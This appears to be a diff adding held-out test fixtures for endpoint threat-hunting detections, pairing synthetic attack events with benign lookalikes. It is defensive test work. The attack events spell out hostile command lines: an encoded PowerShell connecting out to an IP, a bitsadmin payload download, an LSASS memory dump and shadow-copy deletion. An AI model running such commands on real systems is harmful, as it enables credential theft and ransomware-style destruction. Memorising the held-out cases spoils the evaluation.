@@ -1,0 +1,271 @@
+import type { HeldOutCases } from '../held-out-case.ts';
+import { connection, deviceEvent, fileEvent, processStart } from '../held-out-rows.ts';
+
+const SECOND = 1000;
+const MINUTE = 60 * SECOND;
+const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
+const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+/** PowerShell's -EncodedCommand takes UTF-16LE text in Base64. */
+const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
+/** The held-out known-bad file: its hash is passed to the hunt as a parameter, not taken from the template. */
+const HELD_OUT_MALWARE_SHA256 = 'e3a1c2b7d90f44a8b6c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3';
+
+export const ENDPOINT_CASES: HeldOutCases = {
+  'office-spawns-shell': {
+    attack: (logs) => {
+      const victim = logs.world.nextPerson();
+      processStart(
+        logs,
+        logs.world.ago(21),
+        victim.laptop,
+        { image: EXCEL, user: victim.sam },
+        {
+          image: 'C:\\Windows\\System32\\mshta.exe',
+          commandLine: 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
+          sha256: 'aa11',
+        },
+      );
+      return { host: victim.laptop.fqdn };
+    },
+    // Excel opening a hyperlink in a cell: it starts the browser.
+    lookalike: (logs) => {
+      const person = logs.world.nextPerson();
+      processStart(
+        logs,
+        logs.world.ago(9),
+        person.laptop,
+        { image: EXCEL, user: person.sam },
+        {
+          image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
+          commandLine: 'msedge.exe https://tracking.shipper.example/AB123',
+        },
+      );
+      return { host: person.laptop.fqdn };
+    },
+  },
+  'encoded-powershell': {
+    attack: (logs) => {
+      const victim = logs.world.nextPerson();
+      processStart(
+        logs,
+        logs.world.ago(17),
+        victim.laptop,
+        { image: 'C:\\Windows\\System32\\wscript.exe', user: victim.sam },
+        {
+          image: POWERSHELL,
+          commandLine: `PowerShell.exe -NoP -sta -NonI -W Hidden -Enc ${encoded('$c=New-Object Net.Sockets.TCPClient("45.141.84.9",443);$s=$c.GetStream()')}`,
+        },
+      );
+      return { host: victim.laptop.fqdn };
+    },
+    // A script run with a bypassed execution policy: a switch that starts with -e, nothing encoded.
+    lookalike: (logs) => {
+      const person = logs.world.nextPerson();
+      processStart(
+        logs,
+        logs.world.ago(31),
+        person.laptop,
+        { image: 'C:\\Windows\\System32\\cmd.exe', user: person.sam },
+        {
+          image: POWERSHELL,
+          commandLine:
+            'powershell.exe -ExecutionPolicy Bypass -File \\\\bwfs02\\netlogon\\map-drives-and-printers-for-the-logistics-floor.ps1',
+        },
+      );
+      return { host: person.laptop.fqdn };
+    },
+  },
+  'lolbin-download': {
+    attack: (logs) => {
+      const victim = logs.world.nextPerson();
+      processStart(
+        logs,
+        logs.world.ago(13),
+        victim.laptop,
+        { image: 'C:\\Windows\\System32\\cmd.exe', user: victim.sam },
+        {
+          image: 'C:\\Windows\\System32\\bitsadmin.exe',
+          commandLine:
+            'bitsadmin /transfer job1 /download /priority high https://paste.dropzone.example/raw/x9 C:\\Users\\Public\\x9.dll',
+        },
+      );
+      return { host: victim.laptop.fqdn };
+    },
+    // certutil hashing an installer: the same program, no download.
+    lookalike: (logs) => {
+      const person = logs.world.nextPerson();
+      processStart(
+        logs,
+        logs.world.ago(35),
+        person.laptop,
+        { image: 'C:\\Windows\\System32\\cmd.exe', user: person.sam },
+        {
+          image: 'C:\\Windows\\System32\\certutil.exe',
+          commandLine: 'certutil -hashfile C:\\Users\\Public\\Downloads\\TeamsSetup.exe SHA256',
+        },
+      );
+      return { host: person.laptop.fqdn };
+    },
+  },
+  'lsass-dump': {
+    attack: (logs) => {
+      const { dc } = logs.world.servers;
+      processStart(
+        logs,
+        logs.world.ago(7),
+        dc,
+        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'adm-x' },
+        {
+          image: 'C:\\Windows\\Temp\\pd.exe',
+          commandLine: 'pd.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
+        },
+      );
+      return { host: dc.fqdn };
+    },
+    // An admin dumps the monitoring agent that hangs on the jump host, for the vendor.
+    lookalike: (logs) => {
+      const { jump } = logs.world.servers;
+      processStart(
+        logs,
+        logs.world.ago(40),
+        jump,
+        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'dba-on-call' },
+        {
+          image: 'C:\\Tools\\procdump.exe',
+          commandLine: 'procdump.exe -accepteula -ma MonitoringHost.exe D:\\dumps\\monitoringhost.dmp',
+        },
+      );
+      return { host: jump.fqdn };
+    },
+  },
+  'lsass-access': {
+    attack: (logs) => {
+      const { files } = logs.world.servers;
+      const tool = { image: 'C:\\Users\\Public\\svc.exe', user: 'adm-x', pid: 4711, sha256: 'bb22' };
+      const time = logs.world.ago(11);
+      deviceEvent(logs, time, files, tool, { ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe' });
+      fileEvent(logs, time + 9 * SECOND, files, tool, {
+        FileName: 'x.bin',
+        FolderPath: 'C:\\Users\\Public\\',
+        SHA256: 'cc33',
+      });
+      return { host: files.fqdn };
+    },
+    // Defender's scanner reads LSASS all the time; what it writes an hour later is its own scan log.
+    lookalike: (logs) => {
+      const person = logs.world.nextPerson();
+      const scanner = {
+        image: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\MsMpEng.exe',
+        user: 'system',
+        pid: 3120,
+      };
+      const time = logs.world.ago(25);
+      deviceEvent(logs, time, person.laptop, scanner, { ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe' });
+      fileEvent(logs, time + 58 * MINUTE, person.laptop, scanner, {
+        FileName: 'MPLog.log',
+        FolderPath: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Support',
+      });
+      return { host: person.laptop.fqdn };
+    },
+  },
+  'shadow-copy-delete': {
+    attack: (logs) => {
+      const { files } = logs.world.servers;
+      processStart(
+        logs,
+        logs.world.ago(1),
+        files,
+        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'adm-x' },
+        {
+          image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
+          commandLine: 'wmic shadowcopy where "ID!=\'\'" delete /nointeractive',
+        },
+      );
+      return { host: files.fqdn };
+    },
+    // Someone lists the shadow copies while restoring a file.
+    lookalike: (logs) => {
+      const { backup } = logs.world.servers;
+      processStart(
+        logs,
+        logs.world.ago(45),
+        backup,
+        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'adm-y' },
+        {
+          image: 'C:\\Windows\\System32\\vssadmin.exe',
+          commandLine: 'vssadmin list shadows /for=E:',
+        },
+      );
+      return { host: backup.fqdn };
+    },
+  },
+  'malware-hash': {
+    values: { hashes: HELD_OUT_MALWARE_SHA256.toUpperCase() },
+    attack: (logs) => {
+      const victim = logs.world.nextPerson();
+      fileEvent(
+        logs,
+        logs.world.ago(23),
+        victim.laptop,
+        { image: 'C:\\Windows\\System32\\expand.exe', user: victim.sam },
+        {
+          FileName: 'update.scr',
+          FolderPath: 'C:\\Users\\Public\\',
+          SHA256: HELD_OUT_MALWARE_SHA256,
+        },
+      );
+      return { host: victim.laptop.fqdn };
+    },
+    // A file with the same name and another hash on someone else's laptop.
+    lookalike: (logs) => {
+      const person = logs.world.nextPerson();
+      fileEvent(
+        logs,
+        logs.world.ago(34),
+        person.laptop,
+        { image: 'C:\\Windows\\System32\\expand.exe', user: person.sam },
+        {
+          FileName: 'update.scr',
+          FolderPath: 'C:\\Users\\Public\\',
+          SHA256: 'f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff000102030405060708090a0b0c0d0e0f',
+        },
+      );
+      return { host: person.laptop.fqdn };
+    },
+  },
+  'rare-domain-beacon': {
+    attack: (logs) => {
+      const ip = logs.world.attackerIp();
+      const victim = logs.world.nextPerson();
+      const implant = { image: 'C:\\Users\\Public\\Libraries\\rtkaud.exe', user: victim.sam };
+      const start = logs.world.ago(20);
+      for (let beat = 0; beat < 40; beat += 1) {
+        connection(
+          logs,
+          start + beat * 10 * MINUTE + logs.world.dice.between(-30, 30) * SECOND,
+          victim.laptop,
+          implant,
+          'api.cloud-sync-status.example',
+          ip,
+        );
+      }
+      return { ip, host: victim.laptop.fqdn };
+    },
+    // A travel app on one laptop looks up flight times a few times a day, whenever someone opens it.
+    lookalike: (logs) => {
+      const person = logs.world.nextPerson();
+      const app = { image: 'C:\\Program Files\\FlightDesk\\flightdesk.exe', user: person.sam };
+      for (const hoursAgo of [50, 49, 31, 12, 11, 3]) {
+        connection(
+          logs,
+          logs.world.ago(hoursAgo) + logs.world.dice.between(0, 40) * MINUTE,
+          person.laptop,
+          app,
+          'api.flightdesk.example',
+          '100.90.9.9',
+        );
+      }
+      return { host: person.laptop.fqdn };
+    },
+  },
+};
